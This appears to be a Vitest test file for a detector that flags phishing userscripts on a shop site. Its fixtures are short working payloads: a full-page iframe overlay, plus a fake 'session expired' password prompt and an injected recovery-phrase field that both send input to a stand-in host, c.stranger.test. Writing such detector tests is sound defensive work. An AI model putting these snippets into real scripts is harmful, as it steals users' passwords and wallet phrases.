import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { fakePrompt } from "./fake-prompt.ts";

describe("fake-prompt", () => {
	test.each([
		[
			"a page of somebody over the whole page",
			["medium 5"],
			userscript(
				["match https://shop.example/*"],
				`const f=document.createElement("iframe");f.src="https://sign.stranger.test/";f.style.cssText="position:fixed;inset:0;width:100vw;height:100vh";document.body.append(f)`,
			),
		],
		[
			"a question for the password",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const p=prompt("Your session has expired. Password:");
fetch("https://c.stranger.test/",{method:"POST",body:p})`,
			),
		],
		[
			"an overlay with a field of its own",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`const i=document.createElement("input");i.type="password";i.placeholder="Recovery phrase";document.body.append(i);
const ok=document.createElement("button");document.body.append(ok);
ok.onclick=()=>fetch("https://c.stranger.test/?p="+i.value)`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(fakePrompt, code)).toEqual(expected);
	});

	test.each([
		[
			"a question for a word",
			userscript(
				["match https://shop.example/*"],
				`const q=prompt("Search for:");fetch("https://c.stranger.test/?q="+q)`,
			),
		],
		[
			"a key for its own service",
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example", "grant GM_setValue"],
				`const k=prompt("API key or password of Helper:");GM_xmlhttpRequest({url:"https://api.helper.example/",headers:{Authorization:k}})`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(fakePrompt, code)).toEqual([]);
	});
});
